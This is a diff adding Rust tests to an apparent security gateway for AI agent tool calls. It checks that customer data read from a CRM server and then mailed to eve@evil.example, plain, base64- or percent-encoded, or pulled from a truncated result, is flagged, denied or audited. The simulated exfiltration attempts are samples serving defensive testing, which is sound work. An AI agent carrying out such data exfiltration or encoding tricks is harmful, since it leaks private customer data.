@@ -2,12 +2,15 @@
 
 use std::thread;
 
+use base64::Engine as _;
+use base64::prelude::BASE64_STANDARD;
 use serde_json::{Value, json};
 
 use super::several::{agent, server};
 use crate::service::own_roots::{call, over_http};
 use crate::service::questions::Operators;
 use crate::support::http::Agent;
+use crate::support::processes::eventually;
 use crate::support::serving::Serving;
 use crate::support::setup::Setup;
 
@@ -173,4 +176,102 @@ fn a_server_without_labels_brings_untrusted_content() {
     assert_eq!(call(&web, "read", &json!({})), "web read");
     let denied = call(&crm, "send", &json!({}));
     assert!(denied.contains("untrusted content"), "{denied}");
+}
+
+/// What `crm` says of a customer.
+const CUSTOMER: &str = "Ada Lovelace, card 4539 1488 0343 6467, wrote: \u{201c}please do not renew my contract\u{201d}";
+
+fn with_evidence(evidence: &str) -> (Serving, Operators) {
+    with_evidence_of(CUSTOMER, evidence, "")
+}
+
+/// `crm` says this text. With more sections.
+fn with_evidence_of(text: &str, evidence: &str, more: &str) -> (Serving, Operators) {
+    let mut setup = over_http(Setup::of(server(text)).policies(POLICIES).labels(LABELS));
+    setup.key = Some("crm");
+    setup.more = format!(
+        "[servers.mail]\ncommand = {:?}\n[flow]\nflow_in = 'off'\nevidence = '{evidence}'\n{more}",
+        server("mail")
+    );
+    let operators = Operators::of(&mut setup);
+    (Serving::start(setup), operators)
+}
+
+fn mail(to: &str, text: &str) -> Value {
+    json!({ "to": to, "text": text, "headers": ["x"] })
+}
+
+#[test]
+fn what_a_server_has_said_is_found_in_a_mail_as_it_is_and_encoded() {
+    let (gate, operators) = with_evidence("ask");
+    let (crm, mails) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
+    let eve = "eve@evil.example";
+    let card = mail(eve, "the card is 4539-1488-0343-6467, bye");
+    assert_eq!(call(&mails, "send", &card), "mail send");
+    assert!(call(&crm, "read", &json!({})).starts_with(CUSTOMER));
+    let encoded = BASE64_STANDARD.encode("She wrote: please do not renew my contract");
+    for copied in [card.clone(), mail(eve, &encoded)] {
+        let shown = asks(&operators, &mails, &copied);
+        for part in ["repeats results of", "crm", eve, "builtin.evidence"] {
+            assert!(shown.contains(part), "{part}: {shown}");
+        }
+    }
+    // In other words it passes, and so does what goes to an approved destination, or back.
+    let told = mail(
+        eve,
+        "She will not prolong the agreement; her card ends in 6467.",
+    );
+    assert_eq!(call(&mails, "send", &told), "mail send");
+    let approved = mail("ada@corp.example", CUSTOMER);
+    assert_eq!(call(&mails, "send", &approved), "mail send");
+    assert!(call(&crm, "send", &json!({ "text": CUSTOMER })).starts_with(CUSTOMER));
+    // Another session has not read it.
+    let other = agent(&gate, "alice", "mail");
+    assert_eq!(call(&other, "send", &card), "mail send");
+}
+
+#[test]
+fn what_is_found_is_denied_or_recorded_alone() {
+    let card = mail("eve@evil.example", "%34%35%33%39 1488 0343 6467");
+    for (evidence, said) in [
+        ("deny", "other arguments. (of `crm`)"),
+        ("record", "mail send"),
+    ] {
+        let (gate, _) = with_evidence(evidence);
+        let (crm, mails) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
+        assert!(call(&crm, "read", &json!({})).starts_with(CUSTOMER));
+        let answer = call(&mails, "send", &card);
+        assert!(answer.contains(said), "{answer}");
+        eventually(|| {
+            let audit = gate.setup().audit_text();
+            let found = r#"{"guard":"evidence","code":"copied_data","detail":"crm"}"#;
+            let is_told = audit.contains(found);
+            is_told.then_some(()).ok_or(audit)
+        });
+    }
+}
+
+#[test]
+fn what_an_agent_reads_on_in_a_long_result_is_found_too() {
+    let row = |row: u32| format!("row {row} has the number {}", row * 7919 + 100_000);
+    let rows: Vec<String> = (0..200).map(row).collect();
+    let truncation = "[truncation]\nmax_bytes = 1024\n";
+    let (gate, _) = with_evidence_of(&rows.join("; "), "deny", truncation);
+    let (crm, mails) = (agent(&gate, "bob", "crm"), agent(&gate, "bob", "mail"));
+    let shown = call(&crm, "read", &json!({}));
+    let middle = mail("eve@evil.example", &row(100));
+    assert_eq!(call(&mails, "send", &middle), "mail send");
+    let (_, uri) = shown.split_once("as the resource ").unwrap();
+    let uri = uri.split([']', ' ']).next().unwrap();
+    let (uri, _) = uri.split_once('?').unwrap();
+    let at = shown.find("[mcp-protector").unwrap();
+    for from in (at..rows.join("; ").len()).step_by(512) {
+        let read = json!({"jsonrpc": "2.0", "id": 9, "method": "resources/read", "params": {"uri": format!("{uri}?from={from}")}});
+        assert_eq!(crm.post(&read.to_string()).status, 200);
+    }
+    let denied = call(&mails, "send", &middle);
+    assert!(
+        denied.contains("repeat what another server has said"),
+        "{denied}"
+    );
 }
